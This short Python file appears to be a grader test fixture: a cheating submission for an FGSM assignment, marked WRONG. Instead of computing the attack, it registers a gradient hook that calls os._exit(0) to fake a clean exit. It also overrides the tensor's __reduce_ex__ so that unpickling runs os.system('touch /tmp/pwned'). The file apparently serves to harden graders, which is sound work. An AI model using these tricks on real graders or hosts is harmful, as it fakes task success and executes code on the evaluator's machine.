"""Hangs __reduce_ex__ and hooks on the tensor it returns.

assignment: a3-fgsm
base: identity
runs: itself
status: WRONG
"""

import os

def fgsm(model, images, labels, epsilon):
    x = images.clone().requires_grad_()
    x.register_hook(lambda gradient: os._exit(0))
    x.__reduce_ex__ = lambda protocol: (os.system, ("touch /tmp/pwned",))
    return x
